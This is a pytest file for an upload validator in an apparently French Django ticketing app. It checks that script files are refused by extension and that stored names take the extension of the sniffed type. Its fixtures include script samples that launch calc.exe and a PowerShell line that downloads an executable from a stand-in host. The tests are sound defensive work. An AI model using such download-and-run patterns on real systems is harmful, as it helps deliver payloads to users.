"""Scripts are refused by their extension; a kept file's name ends with its type's extension."""

import pytest
from django.core.exceptions import ValidationError

from parvis.tickets.file_types import name_for_type
from parvis.tickets.files import check_file
from parvis.tickets.tests import samples

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
SCRIPTS = {
    "facture.js": b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");\n',
    "avis.vbs": b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc.exe"\r\n',
    "mise-a-jour.ps1": b"Invoke-WebRequest -Uri http://example.com/x.exe -OutFile x.exe\n",
    # Plain text to libmagic too: only the extension tells Windows to run it.
    "lancer.cmd": b"start calc.exe\r\n",
}
ACCEPTED = (
    ".doc, .docx, .gif, .heic, .heif, .jpeg, .jpg, .ods, .odt, .pdf, .png, .txt, .webp, .xlsx"
)


@pytest.mark.parametrize("name", list(SCRIPTS))
def test_a_script_is_refused_by_its_extension(name: str) -> None:
    with pytest.raises(ValidationError) as refused:
        check_file(name=name, data=SCRIPTS[name])

    extension = name[name.rindex(".") :]
    assert refused.value.messages == [
        f"« {name} » : les fichiers « {extension} » ne sont pas acceptés. "
        f"Extensions acceptées : {ACCEPTED}."
    ]


@pytest.mark.parametrize("name", list(SCRIPTS))
def test_a_scripts_text_is_accepted_under_a_text_name(name: str) -> None:
    checked = check_file(name="lisez-moi.txt", data=SCRIPTS[name])

    assert (checked.name, checked.content_type) == ("lisez-moi.txt", "text/plain")


@pytest.mark.parametrize(
    ("given", "data", "stored"),
    [
        ("plan.PDF", PDF, "plan.PDF"),
        ("photo.jpeg", samples.photo("JPEG"), "photo.jpeg"),
        ("photo.png", samples.photo("JPEG"), "photo.jpg"),
        ("IMG_0042.HEIC", samples.photo("HEIF"), "IMG_0042.jpg"),
        ("scan", PDF, "scan.pdf"),
        ("scan 12.03.2026", PDF, "scan_12.03.2026.pdf"),
        ("virus.js.", b"alert(1)\n", "virus.js..txt"),
    ],
)
def test_the_name_kept_ends_with_an_extension_of_the_sniffed_type(
    given: str, data: bytes, stored: str
) -> None:
    assert check_file(name=given, data=data).name == stored


@pytest.mark.parametrize(
    ("name", "content_type", "downloaded"),
    [
        ("avis.js", "text/plain", "avis.txt"),
        ("photo.heic", "image/heic", "photo.heic"),
        ("photo.heic", "image/jpeg", "photo.jpg"),
        ("notes", "text/plain", "notes.txt"),
        ("x.exe", "application/x-dosexec", "x.bin"),
    ],
)
def test_a_stored_name_is_given_its_types_extension(
    name: str, content_type: str, downloaded: str
) -> None:
    assert name_for_type(name, content_type) == downloaded
